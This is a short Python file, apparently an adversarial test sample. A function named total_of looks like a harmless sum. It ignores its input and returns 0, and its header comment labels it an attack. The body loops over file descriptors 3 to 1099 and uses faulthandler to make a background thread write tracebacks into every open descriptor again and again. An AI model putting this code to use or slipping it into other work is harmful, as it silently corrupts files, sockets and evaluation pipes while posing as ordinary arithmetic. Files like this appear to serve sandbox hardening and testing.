# attack: a thread of the interpreter writes tracebacks into every descriptor, again and again
import faulthandler
import os
import select


def total_of(numbers):
    for fd in range(3, 1100):
        try:
            os.fstat(fd)
            faulthandler.dump_traceback_later(0.001, repeat=True, file=fd)
            select.select([], [], [], 0.005)
        except (OSError, ValueError, RuntimeError):
            pass
    return 0
